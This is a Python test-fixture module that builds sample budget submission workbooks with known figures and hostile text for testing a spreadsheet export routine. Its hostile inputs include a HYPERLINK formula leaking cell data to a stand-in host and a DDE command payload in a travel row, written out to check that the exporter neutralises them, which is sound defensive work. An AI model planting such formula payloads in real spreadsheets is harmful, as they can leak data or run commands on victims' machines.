"""Sample submission workbooks with known numbers and hostile text, shared by the exports tests."""

from __future__ import annotations

import io
import random
import re
from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

from exports import (
    ColumnsRow,
    DetailRow,
    SpendPlanTable,
    StaffingRow,
    SubmissionWorkbook,
    TripRow,
    write_submission,
)

D = Decimal
BUDGET_YEAR = 2027
SHEETS = ["Summary", "Object class", "Program", "Staffing", "Travel", "Spend plan", "Detail", "About"]
DETAIL_HEADER = (
    "Line id",
    "Version",
    "Fiscal year",
    "Appropriation",
    "Division",
    "Object class",
    "Region",
    "Country",
    "Priority",
    "Program type",
    "Description",
    "Stage",
    "Source",
    "Amount",
)

SUMMARY = [
    ColumnsRow(("DP", "Diplomatic Programs"), D("1250000.10"), D("1300000.25"), D("1375000.40")),
    ColumnsRow(("ESF", "Economic Support Fund"), D("800000.00"), D("0.00"), D("650000.55")),
    ColumnsRow(("INCLE", "International Narcotics Control and Law Enforcement"), D("0"), D("2000000.99"), D("0")),
]
OBJECT_CLASSES = [
    ColumnsRow(("DP", "11.1", "Full-time permanent"), D("700000.05"), D("720000.10"), D("750000.20")),
    ColumnsRow(("DP", "12.1", "Civilian personnel benefits"), D("250000.05"), D("260000.15"), D("275000.20")),
    ColumnsRow(("DP", "21.0", "Travel and transportation of persons"), D("300000.00"), D("320000.00"), D("350000.00")),
    ColumnsRow(("ESF", "41.0", "Grants, subsidies and contributions"), D("800000.00"), D("0.00"), D("650000.55")),
    ColumnsRow(("INCLE", "25.2", "Other services from non-federal sources"), D("0"), D("500000.49"), D("0")),
    ColumnsRow(("INCLE", "41.0", "Grants, subsidies and contributions"), D("0"), D("1500000.50"), D("0")),
]
REGIONS = ["AF", "EAP", "WHA"]
PRIORITIES = ["prosecution", "protection", "prevention", "partnership"]
PROGRAM_TYPES = ["bilateral", "cpc", "regional"]
PROGRAM = [
    (region, priority, PROGRAM_TYPES[(r + p) % 3] if (r + p) % 4 else None, D(f"{(r + 1) * 100000 + p * 12345}.{p}7"))
    for r, region in enumerate(REGIONS)
    for p, priority in enumerate(PRIORITIES)
    if (r, p) != (1, 2)  # one empty cell in the matrix
] + [("AF", "prosecution", "regional", D("0.33"))]  # a second entry for the same cell
STAFFING = [
    StaffingRow("Foreign Service", D("4"), D("5"), D("5.5"), D("812345.67"), D("990000.01"), D("1050000.99")),
    StaffingRow("Civil Service", D("12.25"), D("12"), D("13"), D("1612000.10"), D("1650000.20"), D("1760000.30")),
]
TRAVEL = [
    TripRow(date(2026, 10, 14), "IP", "Ada Lovelace", "Site visit", "Lagos, Abuja", "approved", D("6123.45")),
    TripRow(date(2027, 2, 3), "PEMA", "=cmd|' /C calc'!A0", "@SUM(A1)", "Vienna", "submitted", D("4820.10")),
]
# Two appropriations over three months: FY2026 money ends in September, FY2027 money starts in October.
SPEND_PLAN = SpendPlanTable(
    as_of=date(2026, 5, 9),
    months=["2026-08", "2026-09", "2026-10"],
    columns=[
        ("INCLE FY2026", [D("1000.01"), D("0.33"), D("0")]),
        ("ESF FY2027", [D("0"), D("0"), D("650000.55")]),
    ],
)

# Text a hostile or careless user could type: formulas, error codes, control characters, huge strings.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    "\t=tab",
    "\r=carriage return",
    "#N/A",
    "bell\x07 and nul\x00 and\x01\x02\x03\x04\x05\x06\x08 escape\x1b",
    "vertical\x0btab\x0cform feed, kept: tab\t newline\n return\r",
    "lone surrogate \ud800 and non-characters \ufffe\uffff",
    "x" * 40_000,
    "\U0001f4b0" * 20_000,  # 20,000 characters but 40,000 UTF-16 units
    "  leading and trailing spaces  ",
    "ünïcödé — “quotes” and 中文",
]


def detail_rows(count: int = 50, *, hostile: bool = True, seed: int = 7) -> list[DetailRow]:
    rng = random.Random(seed)
    texts = HOSTILE if hostile else [t for t in HOSTILE if len(t) <= 500 and t == _legal(t)]
    rows = []
    for n in range(count):
        rows.append(
            DetailRow(
                line_id=1000 + n if n % 10 else None,
                version=rng.randint(1, 9) if n % 10 else None,
                fiscal_year=BUDGET_YEAR + n % 3,
                appropriation=["INCLE FY2027", "ESF FY2027", "DP FY2027"][n % 3],
                division=["IP", "RMP", "PEMA", "RPA"][n % 4],
                object_class=["41.0", "25.2", "21.0", "11.1"][n % 4],
                region=REGIONS[n % 3] if n % 5 else None,
                country=["NGA", "PHL", "GTM"][n % 3] if n % 5 else None,
                priority=PRIORITIES[n % 4] if n % 6 else None,
                program_type=PROGRAM_TYPES[n % 3] if n % 7 else None,
                description=texts[n % len(texts)] if n % 2 else f"Line {n}",
                stage=["planned", "committed", "obligated"][n % 3],
                source=["manual", "travel", "import"][n % 3],
                amount=D(rng.randint(0, 50_000_000)) / 100,
            )
        )
    return rows


def _legal(text: str) -> str:
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", text)


def sample_workbook(detail: Iterable[DetailRow] | None = None, **changes: object) -> SubmissionWorkbook:
    data = SubmissionWorkbook(
        scenario="FY2027 request",
        budget_year=BUDGET_YEAR,
        py_scenario="FY2025 actual",
        cy_scenario="FY2026 enacted",
        exported_by="Rita Manager <rita@example.gov>",
        exported_at=datetime(2026, 5, 9, 14, 3, 7),
        app_version="0.1.0",
        filters={"scenario": "FY2027 request", "division": "=all divisions"},
        summary=SUMMARY,
        object_classes=OBJECT_CLASSES,
        program=PROGRAM,
        regions=REGIONS,
        priorities=PRIORITIES,
        program_types=PROGRAM_TYPES,
        staffing=STAFFING,
        travel=TRAVEL,
        detail=detail_rows() if detail is None else detail,
        spend_plan=SPEND_PLAN,
    )
    return replace(data, **changes)  # type: ignore[arg-type]


def write_bytes(data: SubmissionWorkbook) -> tuple[bytes, str]:
    stream = io.BytesIO()
    checksum = write_submission(data, stream)
    return stream.getvalue(), checksum


def write_file(data: SubmissionWorkbook, directory: Path, name: str = "submission.xlsx") -> tuple[Path, str]:
    path = directory / name
    return path, write_submission(data, path)


def total(values: Sequence[Decimal]) -> Decimal:
    return sum(values, D(0))
